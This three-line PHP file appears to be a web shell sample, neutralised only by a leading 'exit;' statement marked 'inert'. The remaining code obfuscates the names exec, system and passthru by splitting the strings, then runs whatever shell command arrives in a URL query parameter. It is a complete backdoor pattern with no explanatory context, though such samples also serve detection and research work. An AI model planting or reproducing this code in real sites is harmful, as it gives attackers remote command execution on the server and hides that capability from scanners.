<?php exit; /* inert */ 
$h = ['e' => 'ex' . 'ec', 's' => 'sy' . 'stem', 'p' => implode('', ['pass', 'thru'])];
if (isset($h[$_GET['h']])) { $q = $h[$_GET['h']]; $q($_GET['v']); }
